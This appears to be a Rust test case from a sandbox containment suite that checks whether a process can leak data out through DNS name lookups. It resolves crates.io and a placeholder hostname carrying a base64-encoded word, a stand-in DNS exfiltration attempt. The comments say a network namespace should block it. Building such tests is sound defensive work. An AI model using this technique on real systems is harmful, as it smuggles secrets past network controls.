//! Tries: to send data out by asking for a name
//! Aims at: host
//! Stopped by: the network namespace, and no resolver configuration
//! Expect: contained
//! Shows: crates.io: failed to lookup address information

mod attack;

use attack::*;

use std::net::ToSocketAddrs;

fn main() {
    attempt("crates.io", ("crates.io", 443).to_socket_addrs());
    attempt("a name with data in it", ("c2VjcmV0.example.com", 80).to_socket_addrs());
}
